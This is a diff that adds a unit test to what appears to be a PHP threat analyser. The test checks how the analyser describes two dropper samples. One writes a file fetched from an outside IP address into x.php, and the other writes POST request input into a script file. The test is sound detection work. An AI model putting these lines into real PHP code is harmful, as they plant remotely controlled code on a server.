@@ -562,3 +562,10 @@ def test_code_without_an_opening_tag_is_analysed_as_php() -> None:
 
 def test_text_without_an_opening_tag_is_not_code() -> None:
     assert not analyse("Dear $name, if (you) read this, call system($number) now.\n")
+
+
+def test_downloaded_content_is_not_called_request_input() -> None:
+    (reason,) = analyse("<?php file_put_contents('x.php', file_get_contents('http://203.0.113.5/p.txt'));")
+    assert reason.description.startswith("content downloaded by the server is written into a script file")
+    (reason,) = analyse("<?php file_put_contents('x.php', $_POST['p']);")
+    assert reason.description.startswith("request input is written into a script file")
